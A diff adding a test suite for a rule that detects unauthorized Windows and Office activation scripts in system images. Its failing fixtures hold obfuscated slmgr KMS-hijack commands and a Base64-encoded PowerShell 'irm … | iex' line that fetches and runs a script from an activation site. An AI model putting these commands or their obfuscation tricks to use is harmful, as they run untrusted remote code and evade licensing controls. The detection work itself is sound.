@@ -1,0 +1,83 @@
+// The rule activation/script-semantics: scripts of administrators and scripts of activators, plain and in disguise.
+import { gzipSync } from 'node:zlib';
+import { test } from 'uvu';
+import { scriptSemantics } from '../../../rules/activation/script-semantics.ts';
+import { ruleTester } from '../../helpers/rule-tester.ts';
+
+const policy = { kmsHosts: ['kms.corp.example'] };
+const SITE = ['get.activated', 'win'].join('.');
+const SCRIPT = '/Windows/Setup/Scripts/SetupComplete.cmd';
+const wide = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le'));
+const bad = (name: string, files: Readonly<Record<string, string | Uint8Array>>, severity: 'error' | 'warning' = 'error') => ({
+  name,
+  policy,
+  image: { files },
+  findings: Object.keys(files).map((file) => ({ messageId: 'activates', at: { file }, severity })),
+});
+
+ruleTester(scriptSemantics, {
+  good: [
+    {
+      name: 'the listed host',
+      policy,
+      image: { files: { [SCRIPT]: 'cscript slmgr.vbs /skms kms.corp.example\r\ncscript slmgr.vbs /ato\r\n' } },
+    },
+    {
+      name: 'a host given as a parameter',
+      policy,
+      image: { files: { '/tools/act.ps1': 'param($KmsHost)\ncscript slmgr.vbs /skms $KmsHost\n' } },
+    },
+    {
+      name: 'a script that takes a hijack away, and one that speaks of a host',
+      policy,
+      image: {
+        files: {
+          '/tools/clean.cmd':
+            'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /f\r\n',
+          '/tools/help.cmd': 'echo Example: slmgr.vbs /skms kms.other.example\r\n',
+        },
+      },
+    },
+    {
+      name: 'code of a web page that holds the same words',
+      policy,
+      image: { files: { '/www/app.js': 'f("slmgr.vbs /skms kms.evil.example")' } },
+    },
+  ],
+  bad: [
+    bad('a host that nobody listed', { [SCRIPT]: 'cscript slmgr.vbs /skms kms.evil.example\r\n' }),
+    bad('in UTF-16 without a mark', { [SCRIPT]: wide('cscript slmgr.vbs /skms kms.evil.example\r\n') }),
+    bad('split by variables that hold nothing', { [SCRIPT]: 's%n%lm^gr.v%n%bs /sk%n%ms kms.evil.ex%n%ample\r\n' }),
+    bad('an encoded command', { '/a.bat': `powershell -eNco ${Buffer.from(wide(`irm https://${SITE}|iex`)).toString('base64')}` }),
+    bad('packed and in Base64', {
+      '/a.ps1': `iex (x([Convert]::FromBase64String('${gzipSync('slmgr /skms 127.0.0.2').toString('base64')}')))`,
+    }),
+    bad('put together from pieces', { '/a.ps1': `$u = 'https://' + '${SITE.slice(0, 6)}' + '${SITE.slice(6)}'\ni\`rm $u | i\`ex\n` }),
+    bad('by Script Host', { '/a.js': 'new ActiveXObject("WScript.Shell").Run("slm" + "gr.vbs /skms kms.evil.example")' }),
+    bad('in the cloud of another', { '/a.cmd': 'slmgr /skms azkms.core.windows.net:1688' }, 'warning'),
+    {
+      name: 'two strong signs are certain, and each is told',
+      policy,
+      image: { files: { '/a.cmd': 'clipup -v -o\r\nslmgr /skms kms.evil.example\r\n' } },
+      findings: [
+        { messageId: 'activates', at: { file: '/a.cmd', offset: 0 }, says: 'tickets', level: 'certain' },
+        { messageId: 'activates', at: { file: '/a.cmd' }, says: 'kms.evil.example', level: 'certain' },
+      ],
+    },
+    {
+      name: 'the help of the tool itself is a note',
+      policy,
+      image: { files: { '/Program Files/Microsoft Office/Office16/OSPP.VBS': 'x = "ospp.vbs /sethst:server01"' } },
+      findings: [{ messageId: 'quoted', at: { file: '/Program Files/Microsoft Office/Office16/OSPP.VBS' }, severity: 'note' }],
+    },
+    {
+      name: 'an encoded script cannot be read',
+      policy,
+      image: { files: { '/a.vbe': '#@~^AAAA==xx^#~@' } },
+      findings: [],
+      unable: 'encoded form',
+    },
+  ],
+});
+
+test.run();
